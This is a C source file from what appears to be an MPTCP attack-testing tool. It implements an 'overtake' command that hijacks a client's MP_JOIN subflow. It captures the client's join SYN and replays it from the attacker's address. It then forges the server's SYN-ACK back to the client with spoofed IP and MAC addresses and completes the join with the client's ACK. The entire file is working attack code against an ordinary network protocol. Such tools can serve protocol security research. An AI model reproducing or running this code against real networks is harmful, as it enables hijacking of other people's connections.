// SPDX-License-Identifier: GPL-2.0-only
/*
 * Not in the middle of any path: what the client sends is seen and goes on its way. A SYN of a
 * join to which nobody has answered yet is sent again from the attacker's address, the
 * server's answer is given to the client as if it were its own, and the client's ACK is sent
 * again from the attacker's address.
 */
#include <stdio.h>
#include <string.h>

#include "attacker.h"

/* path=2: of the client's join; the attacker's own is on path 1 */
bool cmd_overtake(void)
{
	int path = (int)arg_number("path", "2") - 1;
	int64_t until = now_ms() + 20 * patience_ms;
	struct plan plan = { .flags = TH_SYN | TH_ACK,
			     .options = { MPTCP_KIND, JOIN_SYNACK_LEN,
					  MP_JOIN << 4 },
			     .options_len = JOIN_SYNACK_LEN };
	const struct connection *target;
	struct attempt attempt;
	struct frame frame;
	enum answer answer;

	fflush(stdout);
	while (recorded.seen != 1 && now_ms() < until)
		pump(now_ms() + 1, false, &frame);
	target = last_connection();
	if (recorded.seen != 1 || !target)
		return false;
	start_attempt(&attempt, target, target, 0);
	attempt.token = recorded.token;
	attempt.nonces[CLIENT] = recorded.nonces[CLIENT];
	send_syn(&attempt);
	answer = take_synack(&attempt);
	printf(" syn=%s", answers[answer]);
	if (answer != ANSWERED)
		return true;

	plan.from = recorded.to;
	plan.to = recorded.from;
	plan.from_mac = links[path][SERVER].peer_mac;
	plan.to_mac = links[path][CLIENT].peer_mac;
	plan.seq = random32();
	plan.ack = recorded_seq + 1;
	put32(put64(plan.options + 4, attempt.synack), attempt.nonces[SERVER]);
	make_segment(&frame, &plan);
	recorded.synack = attempt.synack;
	recorded.nonces[SERVER] = attempt.nonces[SERVER];
	recorded.seen = 2;
	send_frame(&links[path][CLIENT], &frame);
	until = now_ms() + patience_ms;
	while (recorded.seen != 3 && now_ms() < until)
		pump(now_ms() + 1, false, &frame);
	printf(" client=%s", answers[recorded.seen == 3 ? ANSWERED : SILENT]);
	if (recorded.seen != 3)
		return true;
	end_join(&attempt, target, recorded.ack);
	return true;
}
